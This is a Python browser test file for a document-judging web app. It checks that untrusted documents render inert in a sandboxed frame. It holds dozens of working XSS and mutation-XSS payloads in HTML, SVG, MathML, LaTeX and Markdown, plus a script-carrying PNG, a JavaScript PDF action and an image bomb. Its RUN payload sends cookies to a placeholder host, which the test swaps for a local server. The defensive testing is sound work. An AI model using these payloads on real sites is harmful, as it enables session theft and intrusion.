"""Documents come from strangers: nothing in them runs, loads, navigates or reads, whatever it is.

Every address in a payload is that of a server of our own that counts who asks; every script in one would leave a
trace in the page, in a dialog, or on the console.
"""

from __future__ import annotations

import re
import threading
from base64 import b64encode
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import find_spec
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest
from markupsafe import Markup
from playwright.sync_api import BrowserContext, Page, expect

from tests.at_length import at_length
from tests.fixture_types import MakeCampaign, Visit
from tests.formats.collections_of_documents import warc
from tests.images import png, png_bomb
from tests.pdfs import pdf
from workbench.campaign.changing_settings import change_settings
from workbench.campaign.ingest import add_documents
from workbench.core.records import Document, Topic
from workbench.formats.documents.conversations import Message, conversation_html
from workbench.formats.documents.reading import read_documents
from workbench.methods.text.formulas import KINDS
from workbench.storage.campaign import open_campaign
from workbench.storage.campaign.collection import page_images
from workbench.web.judging import document_view
from workbench.web.judging.document.body import Body, Look, body_of

pytestmark = [pytest.mark.browser, pytest.mark.slow]

RUN = "top.hacked=window.hacked=1;alert(1);console.log(1);new Image().src='OUT/ran?'+document.cookie"

HTML = [
    f"<script>{RUN}</script>",
    "<script src=OUT/x.js></script><script type=module src=OUT/x.mjs></script>",
    f"<img src=OUT/x.png onerror=\"{RUN}\"><img src=x onerror={RUN}>",
    "<img srcset='OUT/a.png 1x, OUT/b.png 2x' alt=a><picture><source srcset=OUT/c.png><img alt=b></picture>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj4=' alt=a>",
    f"<img src='data:text/html,<script>{RUN}</script>' alt=a><img src='data:text/html;base64,PHNjcmlwdD4=' alt=b>",
    "<img src='data:image/png;base64,AAAA\" onerror=\"top.hacked=1' alt='\" onerror=\"top.hacked=1'>",
    f"<img src='data:image/png;base64,{b64encode(png_bomb(60_000, 60_000)).decode()}' alt='a bomb'>" * 9,
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><image href=OUT/x.png /><use href='OUT/x.svg#a'/></svg>",
    f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>click me</text></a></svg>",
    f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s><foreignObject><iframe src=OUT/></foreignObject></svg>",
    f"<svg><style/><foreignObject><iframe src=OUT/f></iframe><input value='{RUN}'></foreignObject></svg>",
    f"<svg><text><![CDATA[<img src=x onerror=\"{RUN}\">]]></text></svg>",
    f"<optgroup label=\"<img src=x onerror='{RUN}'>\">",
    f"<noframes><img src=x onerror=\"{RUN}\"><script>{RUN}</script></noframes>",
    f"<textarea><script>{RUN}</script></textarea>",
    f"<svg><style><img src=x onerror=\"{RUN}\"></style></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror='{RUN}'>\">",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
    f"<math><mtext><table><mglyph><style><math><img src=x onerror=\"{RUN}\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror=\"{RUN}\">",
    f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\"></noscript>",
    f"<textarea></textarea><img src=x onerror='{RUN}'></textarea><title></title><img src=x onerror='{RUN}'></title>",
    f"<xmp></xmp><img src=x onerror='{RUN}'></xmp><plaintext><img src=x onerror='{RUN}'>",
    f"<template><img src=x onerror='{RUN}'></template><noembed><img src=x onerror='{RUN}'></noembed>",
    f"<select><option><style></select><img src=x onerror='{RUN}'></style></select>",
    f"<!--><img src=x onerror='{RUN}'>--><!--!><img src=x onerror='{RUN}'>--><![CDATA[><img src=x onerror='{RUN}'>]]>",
    f"<a href=\"javascript:{RUN}\">click me</a> <a href=\" &#14;java&#10;script:{RUN}\">click me</a>",
    "<a href=OUT/link>click me</a> <a href=OUT/top target=_top>click me</a> <a href=OUT/new target=_blank>click me</a>",
    "<a href=/sign-out ping=OUT/ping download>click me</a>",
    "<map name=m><area shape=default href=OUT/area></map><img usemap=#m width=200 height=200 src=x>",
    "<meta http-equiv=refresh content='0;url=OUT/refresh'>",
    f"<meta http-equiv=refresh content=\"0;url=javascript:{RUN}\"><meta http-equiv=set-cookie content='a=b'>",
    "<meta http-equiv=content-security-policy content='default-src *'><base href=OUT/><img src=based.png>",
    "<link rel=stylesheet href=OUT/x.css><link rel=prefetch href=OUT/p><link rel=preload as=image href=OUT/q.png>",
    "<link rel=icon href=OUT/icon.png><link rel=manifest href=OUT/manifest><link rel=modulepreload href=OUT/m.js>",
    "<style>@import 'OUT/i.css'; p { background: url(OUT/bg.png) }</style>x<p>y",
    "<style>@font-face { font-family: a; src: url(OUT/font) } p { font-family: a }</style><p>x",
    "<p style='background: url(OUT/inline.png); position: fixed; inset: 0; z-index: 9'>covers</p>",
    "<body background=OUT/body.png onload='top.hacked=1'><table background=OUT/table.png><td background=OUT/td.png>x",
    f"<iframe src=OUT/frame></iframe><iframe srcdoc=\"<script>{RUN}</script>\"></iframe>",
    f"<iframe src=\"javascript:{RUN}\"></iframe><iframe src='data:text/html,<script>{RUN}</script>'></iframe>",
    "<frameset><frame src=OUT/frame></frameset>",
    "<object data=OUT/o></object><embed src=OUT/e><applet code=x archive=OUT/a></applet><param name=src value=OUT/p>",
    "<object data='data:text/html,<script>top.hacked=1</script>'></object><portal src=OUT/portal></portal>",
    "<video src=OUT/v autoplay poster=OUT/poster></video><audio src=OUT/a autoplay></audio><track src=OUT/t>",
    f"<video><source onerror=\"{RUN}\"></video><audio src=x onerror=\"{RUN}\">",
    "<form action=OUT/form><input name=a value=b autofocus><button>click me</button></form>",
    f"<form id=f action=OUT/f></form><button form=f formaction=\"javascript:{RUN}\">click me</button>",
    f"<input autofocus onfocus=\"{RUN}\"><select autofocus onfocus=\"{RUN}\"></select>",
    f"<textarea autofocus onfocus=\"{RUN}\">",
    f"<input type=image src=OUT/input.png onerror=\"{RUN}\"><isindex action=OUT/i prompt=x>",
    f"<details open ontoggle=\"{RUN}\">x</details><marquee onstart=\"{RUN}\">x</marquee><dialog open>x</dialog>",
    f"<div contenteditable autofocus onfocus=\"{RUN}\" onmouseover=\"{RUN}\" onclick=\"{RUN}\">click me</div>",
    f"<p onanimationstart=\"{RUN}\" style='animation: x 1s' popover id=page-data class='outside left-out'>click me</p>",
    "<img name=body src=x><form id=head name=documentElement><input name=attributes></form>",
    "<a id=cookie name=location>x</a><img id=cookie name=querySelector>",
    "<p data-start=0 data-field=text data-term=0 class=hit id=shown><mark class='hit current' data-term=7>x</mark></p>",
    f"<custom-element is=x onclick=\"{RUN}\">click me</custom-element><x:script>{RUN}</x:script>",
    "<?xml-stylesheet href=OUT/x?><?import namespace=x implementation=OUT/y>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt><<script>{RUN}//<</script><script\x00>{RUN}</script>",
    f"</main></body></html><script>{RUN}</script><body onload=\"{RUN}\">",
    f"{'<div>' * 700}<img src=x onerror=\"{RUN}\">",
    f"<table><tr><td><table><img src=x onerror=\"{RUN}\"><script>{RUN}</script></table>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4- \u2028<script>{RUN}</script>",
]  # fmt: skip

FORMULAS = [
    f"<math><annotation-xml encoding=text/html><img src=x onerror=\"{RUN}\"><script>{RUN}</script></annotation-xml>",
    f"<math><annotation-xml encoding='application/xhtml+xml'><style><img src=x onerror=\"{RUN}\"></style>",
    f"<math><semantics><mi>x</mi><annotation-xml><svg><style><!--</style><img src=x onerror='{RUN}'>-->",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror='{RUN}' src>\">",
    f"<math><mtext><table><mglyph><style><![CDATA[</style><img src=x onerror='{RUN}'>]]></table></mtext></math>",
    f"<math><mi><malignmark><style><!--</mi></style><img title=\"--&gt;&lt;img src=1 onerror='{RUN}'&gt;\"></math>",
    f"<math><mi></p><img src=x onerror=\"{RUN}\"></mi><mn><b><style>x</math><img src=x onerror='{RUN}'></style>",
    f"<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror='{RUN}'>\">",
    f"<math href=\"javascript:{RUN}\"><mi>click me</mi></math><math><mrow xlink:href=\"javascript:{RUN}\">click me",
    f"<math><maction actiontype=statusline#http://x xlink:href=\"javascript:{RUN}\"><mi>click me</mi></maction></math>",
    "<math><mglyph src=OUT/glyph.png alt=x /><mi background=OUT/b.png style='background:url(OUT/s.png)'>x</mi></math>",
    f"<math display='block\" onclick=\"{RUN}' class=hit style='position:fixed;inset:0'><mi mathvariant='x\" id=\"y'>x",
    "<math><mspace width=99999em height=99999em depth=-9em style='position:fixed'/><mo minsize=999em>|</mo></math>",
    f"<formula kind=mi onclick=\"{RUN}\">x</formula><formula kind=math><formula kind=script>{RUN}</formula></formula>",
    f"<math><mi>&lt;/mi&gt;&lt;/math&gt;&lt;img src=x onerror={RUN}&gt;</mi><ms>&lt;script&gt;{RUN}&lt;/script&gt;",
    f"<table><math><mi><tr><td><svg><desc><style><!--</math></style><img src=x onerror='{RUN}'>--></table>",
    f"<script type=math/tex>\\text{{</script><img src=x onerror='{RUN}'>}}</script>",
    f"<script type='math/tex'>\\href{{javascript:{RUN}}}{{click me}} \\text{{<img src=x onerror={RUN}>}}</script>",
    f"<span class=math-container>$\\text{{&lt;/mtext&gt;&lt;img src=x onerror={RUN}&gt;}}$</span>",
    f"$\\href{{javascript:{RUN}}}{{click me}}$ $\\style{{background:url(OUT/s.png);position:fixed}}{{x}}$",
    "$\\class{hit}{x}$ $\\cssId{page-data}{x}$ $\\includegraphics{OUT/x.png}$ $\\unicode{x3c}$ $\\rule{9999em}{9em}$",
    f"$\\text{{<img src=x onerror='{RUN}'>}}$ \\(\\mathrm{{<script>{RUN}</script>}}\\) $$\\def\\x{{\\x\\x}}\\x$$",
    "$\\text{&#60;img src=x onerror=alert(1)&#62;}$ $\\color{red;background:url(OUT/c)}{x}$ $\\tag{<b onclick=x>}x$",
]  # fmt: skip

MARKDOWN = [
    f"[click me](javascript:{RUN}) <javascript:{RUN}> [click me](OUT/link) <OUT/auto>",
    "![a](OUT/image.png) ![b][c]\n\n[c]: OUT/reference.png\n\n![](data:image/svg+xml;base64,PHN2Zz4=)",
    f'<script>{RUN}</script>\n\n<img src=x onerror="{RUN}"> text <svg onload="{RUN}">',
    f'[click me]("onmouseover="{RUN}) ![x](x"onerror="{RUN})',
    f"```html\n<script>{RUN}</script>\n```\n\n`<img src=x onerror={RUN}>`\n\n    <script>{RUN}</script>",
    f'![" onerror="{RUN}](data:image/png;base64,AAAA "\' onerror=\'{RUN}")',
    f"![a][b] <img src=data:image/png;held,0 onerror={RUN}>\n\n[b]: data:image/gif;base64,R0==",
    f"![](data:image/png;base64,{b64encode(png_bomb(60_000, 60_000)).decode()})",
    f'<a href="javascript:{RUN}">\n\n**click me**\n\n</a>\n\n<iframe src=OUT/frame>',
]


class Outside(ThreadingHTTPServer):
    """A server that nobody is to ask; `asked` are the paths that were asked for."""

    asked: list[str]


class Handler(BaseHTTPRequestHandler):
    server: Outside

    def do_GET(self) -> None:
        self.server.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def outside() -> Iterator[Outside]:
    server = Outside(("127.0.0.1", 0), Handler)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def address_of(server: Outside) -> str:
    return f"http://127.0.0.1:{server.server_port}"


def files_of(address: str) -> dict[str, bytes]:
    """A folder: a PDF that says and does what it should not, pages with an image that is also a script, and such an
    image in a WARC file under an address that is one.
    """
    action = f"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{address}/js'\\)) >>"
    said = [text.replace("OUT", address).encode("latin-1", "replace").decode("latin-1") for text in HTML[:8]]
    page = f'<img src=both.png alt=\'"><script>{RUN}</script>\'><img src=both.png onerror="{RUN}"><img src=a.svg>'
    page += f'<img srcset="both.png 2x, OUT/x.png 3x" onload="{RUN}"><img src=OUT/y.png srcset=OUT/z.png>'
    marked = f'![" onerror="{RUN}](both.png) ![](OUT/a.png) <img src=both.png onload="{RUN}">\n\n[a]: <both.png> \'">\''
    return {
        "paper.pdf": pdf(
            *said, title=f"<script>{RUN.replace('(', '').replace(')', '')}</script>", more=action
        ),
        "page.html": page.replace("OUT", address).encode(),
        "marked.md": marked.replace("OUT", address).encode(),
        "held.warc": warc(
            ('"onerror="top.hacked=1', "image/png", png() + f"<script>{RUN}</script>".encode())
        ),
        "both.png": png() + f"<script>{RUN}</script>".encode(),
        "a.svg": f"<svg onload='{RUN}'/>".encode(),
    }


@pytest.fixture
def hostile(make_campaign: MakeCampaign, outside: Outside, tmp_path: Path) -> list[str]:
    """The campaign `hostile`, every payload in it as text, title and field of a document; their ids."""
    texts = [(text, "text/html") for text in HTML + FORMULAS]
    texts += [(text, "text/markdown") for text in MARKDOWN + FORMULAS]
    texts += [(text, "text/plain") for text in HTML[:3] + FORMULAS]
    texts += [(text, "text/x-code") for text in HTML[:12]]
    said = [conversation_html([Message(text, text, f"> {text}\n{text}", (text,))]) for text in HTML[:12]]
    texts += [(text, "text/html") for text in said]
    documents = [
        Document(f"d{number:03d}", text, text, media_type, {"url": f"javascript:{RUN}", text: text})
        for number, (text, media_type) in enumerate(
            (text.replace("OUT", address_of(outside)), media_type) for text, media_type in texts
        )
    ]
    (tmp_path / "files").mkdir()
    for name, data in files_of(address_of(outside)).items():
        (tmp_path / "files" / name).write_bytes(data)
    documents += read_documents(tmp_path / "files")
    ids = [document.document_id for document in documents]
    topics = [Topic("1", "x <script>alert(1)</script>")]
    runs = {"alpha": {"1": ids[::2]}, "beta": {"1": ids[1::2]}}
    with open_campaign(make_campaign("hostile", topics, documents, runs)) as campaign:
        change_settings(campaign.by("olga"), {"formulas": "latex"})
        # The same text once more: what comes of it are the pages as images, where their library is installed.
        add_documents(campaign.by("olga"), [str(tmp_path / "files" / "paper.pdf")], keep_all=True)
        drawn = find_spec("pypdfium2") is not None
        assert len(page_images.of_document(campaign, "paper")) == (8 if drawn else 0)
    return ids


class Watch:
    """What a browser did that a document must not make it do."""

    def __init__(self, page: Page) -> None:
        self.noticed: list[str] = []
        self.origin = re.match("https?://[^/]+", page.url)[0]  # type: ignore[index]
        page.on("dialog", self._dialog)
        page.on("console", lambda message: self.noticed.append(f"console: {message.text}"))
        page.on("download", lambda download: self.noticed.append(f"download: {download.url}"))
        context: BrowserContext = page.context
        context.on("page", lambda opened: self.noticed.append(f"page: {opened.url}"))
        context.on("request", lambda request: self._request(request.url))

    def _dialog(self, dialog: Any) -> None:
        self.noticed.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, url: str) -> None:
        if not url.startswith((self.origin, "data:image/")):
            self.noticed.append(f"request: {url}")


def frame_of(document_id: str, campaign: str = "hostile") -> str:
    return f"/c/{campaign}/document-frame?{urlencode({'topic': '1', 'document': document_id})}"


LOAD = """async (addresses) => {
  const hacked = [];
  for (const address of addresses) {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-same-origin");
    const loaded = new Promise((done) => frame.addEventListener("load", done));
    frame.src = address;
    document.body.append(frame);
    await loaded;
    await new Promise((painted) => requestAnimationFrame(() => setTimeout(painted, 0)));
    if (frame.contentWindow.hacked || window.hacked) hacked.push(address);
    frame.remove();
  }
  return hacked;
}"""
EMBED = """async ({ addresses, written }) => {
  const found = [];
  for (const address of addresses) {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-same-origin");
    frame.width = frame.height = 300;
    const loaded = new Promise((done) => frame.addEventListener("load", done));
    frame.src = address;
    document.body.append(frame);
    await loaded;
    await new Promise((painted) => requestAnimationFrame(() => setTimeout(painted, 0)));
    const inside = frame.contentDocument;
    if (inside === null) throw new Error(`${address} has gone elsewhere`);
    found.push({
      path: inside.location.pathname + inside.location.search,
      cookie: inside.cookie,
      hacked: Boolean(frame.contentWindow.hacked || window.hacked),
      shown: inside.querySelector("meta[name=shown]") !== null,
      dangerous: [...inside.querySelectorAll(
        "script, iframe, frame, object, embed, form, input, button, a, area, base, svg, style, template"
      )].map((element) => element.outerHTML),
      foreign: [...inside.querySelectorAll("body *")].filter((element) => {
        const parent = element.parentElement.localName;
        const isMath = element.namespaceURI === "http://www.w3.org/1998/Math/MathML";
        const inText = /^(mi|mn|mo|ms|mtext)$/.test(parent) || ["mark", "del"].includes(parent);
        const isHtml = element.namespaceURI === "http://www.w3.org/1999/xhtml";
        if (!isMath) return !isHtml || (element.closest("math") && !inText);
        return inText || !written.includes(element.localName);
      }).map((element) => element.outerHTML),
      attributes: [...inside.querySelectorAll("body *")].flatMap((element) => element.getAttributeNames())
        .filter((name) => /^on|^(style|id|name|href|srcset|background|action|ping|target|is)$/.test(name)),
      covers: [...inside.querySelectorAll("body *")].some((element) => getComputedStyle(element).position === "fixed"),
    });
    frame.remove();
  }
  return found;
}"""


def embed(page: Page, ids: list[str], campaign: str = "hostile") -> list[dict[str, Any]]:
    """Each document in a frame as the judging page has it, one after the other."""
    addresses = [frame_of(document_id, campaign) for document_id in ids]
    found: list[dict[str, Any]] = page.evaluate(
        EMBED, {"addresses": addresses, "written": sorted(set(KINDS.values()))}
    )
    return found


def test_in_the_frame_of_the_judging_page_nothing_of_a_document_comes_to_life(
    visit: Visit, hostile: list[str], outside: Outside
) -> None:
    page = visit("/c/hostile/judge?topic=1")
    expect(page.frame_locator("iframe.current").locator("main")).to_be_visible()
    assert page.locator("iframe.current").get_attribute("sandbox") == "allow-same-origin"
    watch = Watch(page)
    for document_id, found in zip(hostile, embed(page, hostile), strict=True):
        assert found == {
            "path": frame_of(document_id),
            "cookie": "",
            "hacked": False,
            "shown": True,
            "dangerous": [],
            "foreign": [],
            "attributes": [],
            "covers": False,
        }
    assert (watch.noticed, outside.asked) == ([], [])


def some_of(ids: list[str]) -> list[str]:
    """Which are opened directly: with the same bytes and headers each was in a frame before."""
    return ids[:: at_length(1, 3)]


def test_opened_directly_a_document_is_as_dead(visit: Visit, hostile: list[str], outside: Outside) -> None:
    page = visit("/c/hostile/")
    origin = page.url.removesuffix("/c/hostile/")
    watch = Watch(page)
    for document_id in some_of(hostile):
        page.goto(origin + frame_of(document_id))
        for words in page.get_by_text("click me").all()[:2]:
            words.click(force=True)
        assert page.url == origin + frame_of(document_id)
        assert page.evaluate("[window.hacked ?? null, document.cookie]") == [None, ""]
    assert (watch.noticed, outside.asked) == ([], [])


@pytest.mark.slow
def test_even_if_the_cleaner_let_all_through_the_policy_of_the_frame_stops_it(
    visit: Visit, hostile: list[str], outside: Outside, monkeypatch: pytest.MonkeyPatch
) -> None:
    def uncleaned(document: Document, look: Look, _: object) -> Body:
        return body_of(document, look)._replace(html=Markup(document.text), is_empty=False, has_content=True)

    page = visit("/c/hostile/")
    monkeypatch.setattr(document_view, "body_of", uncleaned)
    assert page.evaluate(LOAD, [frame_of(document_id) for document_id in hostile]) == []
    origin = page.url.removesuffix("/c/hostile/")
    for document_id in some_of(hostile):
        page.goto(origin + frame_of(document_id))
    assert outside.asked == []


@pytest.mark.data
def test_pages_of_the_web_with_all_their_scripts_are_dead_too(
    visit: Visit, make_campaign: MakeCampaign, data_folder: Path
) -> None:
    files = sorted((data_folder / "documents" / "webpages-with-scripts").glob("*.html"))
    assert files
    documents = [
        Document(file.stem, "", file.read_text(encoding="utf-8", errors="replace"), "text/html")
        for file in files
    ]
    ids = [document.document_id for document in documents]
    make_campaign("wild", [Topic("1", "the web")], documents, {"alpha": {"1": ids}})
    page = visit("/c/wild/")
    watch = Watch(page)
    for document_id, found in zip(ids, embed(page, ids, "wild"), strict=True):
        assert found["path"] == frame_of(document_id, "wild")
        assert (found["hacked"], found["cookie"], found["dangerous"], found["attributes"]) == (
            False,
            "",
            [],
            [],
        )
    origin = page.url.removesuffix("/c/wild/")
    for document_id in ids:
        page.goto(origin + frame_of(document_id, "wild"))
        assert page.evaluate("document.querySelector('main').textContent.trim().length") > 100
    assert watch.noticed == []
